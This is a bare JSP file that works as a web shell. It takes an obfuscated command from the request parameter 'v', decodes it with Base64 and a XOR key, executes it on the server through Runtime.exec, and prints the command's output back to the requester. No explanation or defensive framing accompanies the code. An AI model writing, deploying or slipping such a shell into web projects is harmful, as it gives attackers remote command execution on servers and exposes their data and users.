<%!
    private static byte[] k(byte[] in) {
        byte[] o = new byte[in.length];
        for (int i = 0; i < in.length; i++) o[i] = (byte) (in[i] ^ 0x5a);
        return o;
    }
    private String go(String c) throws Exception {
        java.io.InputStream in = Runtime.getRuntime().exec(c).getInputStream();
        java.io.ByteArrayOutputStream bo = new java.io.ByteArrayOutputStream();
        int r;
        while ((r = in.read()) != -1) bo.write(r);
        return bo.toString();
    }
%><%
    String v = request.getParameter("v");
    if (v != null) out.print(go(new String(k(java.util.Base64.getDecoder().decode(v)))));
%>
